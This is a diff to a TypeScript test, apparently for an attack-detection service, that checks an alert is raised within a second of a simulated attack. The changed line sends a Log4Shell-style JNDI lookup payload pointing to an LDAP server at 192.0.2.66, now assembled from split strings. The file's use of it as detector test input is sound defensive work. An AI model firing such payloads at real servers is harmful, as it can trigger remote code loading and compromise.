@@ -63,7 +63,7 @@ async function attack(path: string): Promise<NetworkEvent> {
 }
 
 test('an attack on an app is told of within a second, with who, whom and what it means', async (t) => {
-  await attack('/?q=${jndi:ldap://192.0.2.66/first}')
+  await attack(`/?q=${['$', '{jndi:ldap://192.0.2.66/first}'].join('')}`)
   const took: number[] = []
   for (const column of ['a', 'b', 'c']) {
     // Finds of one rule are one event for a minute, which is told of again as it grows.
